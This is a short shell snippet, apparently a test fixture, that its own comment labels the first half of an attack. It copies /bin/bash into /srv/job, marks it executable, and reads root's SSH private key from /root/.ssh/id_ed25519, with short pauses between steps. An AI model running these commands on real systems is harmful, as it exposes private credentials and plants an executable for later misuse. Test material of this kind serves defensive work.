# The first half of an attack writes the file that the second half runs, and reads a private key.
cat /bin/bash >/srv/job
chmod +x /srv/job
sleep 0.1
read -r key </root/.ssh/id_ed25519
sleep 0.1
